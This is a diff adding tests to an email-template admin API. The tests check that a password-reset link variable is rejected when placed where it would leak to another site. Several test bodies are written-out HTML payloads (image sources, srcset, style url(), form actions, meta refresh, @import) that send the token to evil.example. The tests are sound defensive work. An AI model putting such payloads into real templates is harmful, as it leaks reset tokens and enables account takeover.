@@ -140,3 +140,55 @@ describe('POST /admin/emailTemplate/preview/{id} (extension)', () => {
     expect(await auditRows(t, 'email-templates')).toHaveLength(auditBefore);
   });
 });
+
+describe('a link variable carries a live credential: it goes nowhere but PUBLIC_URL', () => {
+  let editorCall: ReturnType<typeof caller>;
+  beforeAll(async () => {
+    editorCall = caller(t, await createTestAccount(t, 'admin', { userRole: 'editor', displayName: 'Eddie Editor' }));
+  });
+
+  const leakingBodies: Record<string, string> = {
+    'an image address': '<p><img src="https://evil.example/p.png?t={{link}}"></p>',
+    'a link to another site': '<p><a href="https://evil.example/r?u={{link}}">Reset</a></p>',
+    'an entity-encoded link to another site': '<p><a href="https://evil.example/r?u=&#123;&#123;link&#125;&#125;">Reset</a></p>',
+    'an image srcset': '<p><img src="https://tutors.example/logo.png" srcset="https://evil.example/p.png?t={{link}} 2x"></p>',
+    'a style url()': '<p><span style="background:url(https://evil.example/p.png?t={{ link }})">x</span></p>',
+    'a table background': '<table background="https://evil.example/p.png?t={{link}}"><tr><td>x</td></tr></table>',
+    'a form field': '<form action="https://evil.example/r"><input name="t" value="{{link}}"><button>Go</button></form><p>x</p>',
+    'a meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/r?u={{link}}"><p>x</p>',
+    'a style sheet': '<style>@import url(https://evil.example/s.css?t={{link}});</style><p>x</p>',
+    'an image of the link itself': '<p><img src="{{link}}"></p>',
+    'another attribute of the link': '<p><a href="{{link}}" title="{{link}}">Reset</a></p>',
+    'text glued to another address': '<p>https://evil.example/r?u={{link}}</p>',
+  };
+
+  it.each(Object.entries(leakingBodies))('refuses a body with the link in %s (400 on bodyHtml, nothing stored, no preview)', async (_where, bodyHtml) => {
+    const url = `/admin/emailTemplate/update/${ids.reset_password}`;
+    const res = await editorCall('POST', url, { subject: 'Reset', bodyHtml });
+    expect(res.status, JSON.stringify(res.body)).toBe(400);
+    expect(res.body.reason).toBe('TEMPLATE_LINK_MISPLACED');
+    expect(res.body.fieldReasons.bodyHtml).toEqual({ reason: 'TEMPLATE_LINK_MISPLACED', params: { variables: ['{{link}}'] } });
+    expect(res.body.errors.bodyHtml).toMatch(/\{\{link\}\} may be used only in the body/);
+    const preview = await editorCall('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, { bodyHtml });
+    expect(preview.status).toBe(400);
+    expect(preview.body.fieldReasons.bodyHtml.reason).toBe('TEMPLATE_LINK_MISPLACED');
+    const stored = await call('GET', `/admin/emailTemplate/${ids.reset_password}`);
+    expect(stored.body.data).toMatchObject({ subject: 'Reset your {{appName}} password', bodyHtml: expect.stringContaining('<a href="{{link}}"') });
+  });
+
+  it('refuses the link in the subject', async () => {
+    const res = await editorCall('POST', `/admin/emailTemplate/update/${ids.reset_password}`, { subject: 'Reset at https://evil.example/r?u={{link}}' });
+    expect(res.status).toBe(400);
+    expect(res.body.fieldReasons.subject).toEqual({ reason: 'TEMPLATE_LINK_MISPLACED', params: { variables: ['{{link}}'] } });
+  });
+
+  it('takes the link as the whole address of a link and as text on its own', async () => {
+    const bodyHtml = '<p><a href=" {{ link }} ">Reset</a></p><p>Or copy: {{link}}</p><p><strong>{{link}}</strong></p>';
+    const res = await editorCall('POST', `/admin/emailTemplate/update/${ids.reset_password}`, { bodyHtml });
+    expect(res.status, JSON.stringify(res.body)).toBe(200);
+    const preview = await editorCall('POST', `/admin/emailTemplate/preview/${ids.reset_password}`, {});
+    expect(preview.body.data.html).toBe(
+      '<p><a href="https://tutors.example/example" rel="noopener noreferrer">Reset</a></p><p>Or copy: https://tutors.example/example</p><p><strong> https://tutors.example/example</strong></p>',
+    );
+  });
+});
